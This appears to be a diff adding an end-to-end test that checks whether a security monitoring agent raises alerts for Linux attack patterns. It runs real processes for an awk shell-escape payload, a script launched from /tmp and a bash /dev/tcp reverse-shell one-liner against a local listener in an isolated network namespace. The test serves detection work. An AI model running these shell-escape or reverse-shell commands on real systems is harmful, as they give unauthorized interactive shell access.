@@ -1,0 +1,134 @@
+/**
+ * Issue 21's Linux attack classes against the real agent (`portwarden run`): real processes, and
+ * the alert documents that come out of its output.
+ * The reverse shell connects to a listener in a private network namespace the test makes.
+ * Polling only (250 ms), and each attack process lives about 2 s: with `source.realtime: auto` on
+ * a busy shared machine (load ~12) some runs reported no new process at all for 60 s, so the
+ * real-time path is not what this test measures (test/e2e/linux/realtime.test.ts does).
+ */
+import { test } from 'node:test';
+import type { TestContext } from 'node:test';
+import assert from 'node:assert/strict';
+import { execFile, execFileSync, spawn } from 'node:child_process';
+import { chmodSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
+import { join } from 'node:path';
+import type { EcsDocument } from '../../../agent/ecs/document.js';
+import { getField } from '../../../agent/ecs/document.js';
+import { startAgent } from '../../helpers/agent-process.js';
+import type { RunningAgent } from '../../helpers/agent-process.js';
+import { ecsProblems } from '../../helpers/ecs-validate.js';
+import { waitFor } from '../../helpers/wait.js';
+
+const root = process.getuid?.() === 0;
+
+/**
+ * Runs `file args` to its end; resolves with its pid whatever its exit status (the reverse shell
+ * dies of SIGPIPE when its peer hangs up; the alerts are what the test checks).
+ */
+function run(file: string, args: string[]): Promise<number> {
+  return new Promise((resolve) => {
+    const child = execFile(file, args, { timeout: 60_000 }, () => { resolve(child.pid ?? 0); });
+  });
+}
+
+async function startPolling(t: TestContext): Promise<RunningAgent> {
+  const agent = startAgent('events: { process: true }\nsource: { realtime: off }\n');
+  t.after(async () => { await agent.stop(); rmSync(agent.dir, { recursive: true, force: true }); });
+  await waitFor('the started event', () => events(agent).find((d) => d.event.action === 'started'), 30_000);
+  await waitFor('the first inventory', () => events(agent).find((d) => d.event.action === 'listening_existing'), 30_000);
+  // New processes are reported once a marker process comes out (start-up reads the existing ones first).
+  const marker = spawn('sleep', ['3'], { stdio: 'ignore' });
+  t.after(() => { marker.kill('SIGKILL'); });
+  await waitFor('the marker process', () => events(agent).find((d) => getField(d, 'process.pid') === marker.pid), 60_000);
+  return agent;
+}
+
+/** The agent's output so far; a line being written is left for the next look. */
+function events(agent: RunningAgent): EcsDocument[] {
+  try {
+    return agent.events();
+  } catch {
+    return [];
+  }
+}
+
+/** The alert of `rule` about a process matching `about`, once it is in the agent's output. */
+function alertOf(agent: RunningAgent, rule: string, about: (d: EcsDocument) => boolean): Promise<EcsDocument> {
+  return waitFor(`a ${rule} alert`, () => events(agent).find((d) => d.event.kind === 'alert' && getField(d, 'rule.id') === rule && about(d)), 45_000)
+    .catch((err: unknown) => {
+      const seen = events(agent).filter((d) => d.event.kind === 'alert').map((d) => `${String(getField(d, 'rule.id'))} on ${String(getField(d, 'process.command_line')).slice(0, 80)}`);
+      throw new Error(`${String(err)}; alerts seen: ${JSON.stringify(seen)}`);
+    });
+}
+
+function checkAlert(d: EcsDocument, rule: string): void {
+  assert.deepEqual(ecsProblems(d), [], rule);
+  assert.equal(d.event.action, 'unusual_parent_child');
+  assert.equal(d.event.dataset, 'portwarden.alerts');
+  assert.equal(getField(d, 'threat.framework'), 'MITRE ATT&CK');
+}
+
+test('Linux attack classes under the real agent: shell escape, script from /tmp, bash /dev/tcp reverse shell', { skip: !root && 'needs root (eBPF, network namespaces)' }, async (t) => {
+  const agent = await startPolling(t);
+  const me = process.pid;
+
+  // Class 4: GTFOBins awk shell, awk 'BEGIN {system("/bin/sh")}': awk runs sh -c /bin/sh, which
+  // becomes /bin/sh in place and reads commands from the terminal (here a pipe) for two seconds.
+  const awk = spawn('awk', ['BEGIN {system("/bin/sh")}'], { stdio: ['pipe', 'ignore', 'ignore'] });
+  t.after(() => { awk.kill('SIGKILL'); });
+  awk.stdin.end('sleep 2\nexit\n');
+  const awkPid = awk.pid ?? -1;
+  const escape = await alertOf(agent, 'pw-lnx-shell-escape', (d) => getField(d, 'process.parent.pid') === awkPid);
+  checkAlert(escape, 'pw-lnx-shell-escape');
+  assert.equal(getField(escape, 'process.name'), 'sh');
+  assert.match(String(getField(escape, 'process.parent.name')), /^[gmn]?awk$/);
+  assert.match(String(getField(escape, 'process.command_line')), /^(sh -c )?\/bin\/sh$/);
+  assert.deepEqual(getField(escape, 'threat.technique.subtechnique.id'), ['T1059.004']);
+
+  // Class 3: a script written to a temp directory and handed to sh (Atomic Red Team T1059.004 #1).
+  const dir = mkdtempSync(join('/tmp', 'pw-live-'));
+  t.after(() => { rmSync(dir, { recursive: true, force: true }); });
+  const script = join(dir, 'art.sh');
+  writeFileSync(script, 'id >/dev/null\nsleep 2\n');
+  chmodSync(script, 0o644);
+  const shPid = await run('sh', [script]);
+  const temp = await alertOf(agent, 'pw-lnx-script-from-temp', (d) => getField(d, 'process.pid') === shPid);
+  checkAlert(temp, 'pw-lnx-script-from-temp');
+  assert.equal(getField(temp, 'process.name'), 'sh');
+  assert.deepEqual(getField(temp, 'process.args'), ['sh', script]);
+  assert.equal(getField(temp, 'process.parent.pid'), me);
+  assert.equal(getField(temp, 'event.severity'), 47);
+
+  // Class 1: bash -i >& /dev/tcp/127.0.0.1/PORT inside a private network namespace, to a listener
+  // there that holds the connection until the alerts are out, then sends "exit" and hangs up.
+  const ns = `pw-live-${process.pid}`;
+  execFileSync('ip', ['netns', 'add', ns]);
+  t.after(() => { try { execFileSync('ip', ['netns', 'del', ns]); } catch { /* gone */ } });
+  execFileSync('ip', ['netns', 'exec', ns, 'ip', 'link', 'set', 'lo', 'up']);
+  const listener = spawn('ip', ['netns', 'exec', ns, 'python3', '-c',
+    'import socket,sys\ns=socket.socket()\ns.bind(("127.0.0.1",0))\ns.listen(1)\nprint(s.getsockname()[1],flush=True)\nc,_=s.accept()\nsys.stdin.read()\nc.sendall(b"exit\\n")\nc.recv(64)\nc.close()'], { stdio: ['pipe', 'pipe', 'inherit'] });
+  t.after(() => { listener.kill('SIGKILL'); });
+  const port = await new Promise<number>((resolve, reject) => {
+    listener.stdout.once('data', (b: Buffer) => { resolve(Number(b.toString().trim())); });
+    listener.once('exit', (code) => { reject(new Error(`listener exited (${String(code)})`)); });
+  });
+  const shell = spawn('ip', ['netns', 'exec', ns, 'bash', '-c', `bash -i >& /dev/tcp/127.0.0.1/${port} 0>&1`], { stdio: 'ignore' });
+  const shellExit = new Promise((resolve) => { shell.once('exit', resolve); });
+  t.after(() => { shell.kill('SIGKILL'); });
+  const bashPid = shell.pid ?? -1;
+  // ip netns exec becomes bash -c in place (one pid), which runs bash -i as its child with the
+  // socket as stdin: the one-liner raises the command line alert, the child the stdin alert.
+  const rev = await alertOf(agent, 'pw-reverse-shell-cmdline', (d) => getField(d, 'process.pid') === bashPid);
+  checkAlert(rev, 'pw-reverse-shell-cmdline');
+  assert.match(String(getField(rev, 'process.command_line')), new RegExp(`bash -i >& /dev/tcp/127\\.0\\.0\\.1/${port} 0>&1`));
+  assert.equal(getField(rev, 'process.parent.pid'), me);
+  assert.equal(getField(rev, 'event.severity'), 73);
+  const stdin = await alertOf(agent, 'pw-lnx-shell-tcp-stdin', (d) => getField(d, 'process.parent.pid') === bashPid || getField(d, 'process.pid') === bashPid);
+  checkAlert(stdin, 'pw-lnx-shell-tcp-stdin');
+  assert.equal(getField(stdin, 'process.name'), 'bash');
+  assert.equal(getField(stdin, 'process.command_line'), 'bash -i');
+  assert.equal(getField(stdin, 'portwarden.process.stdin'), 'tcp');
+  assert.equal(getField(stdin, 'event.severity'), 99);
+  listener.stdin.end();
+  await shellExit;
+});
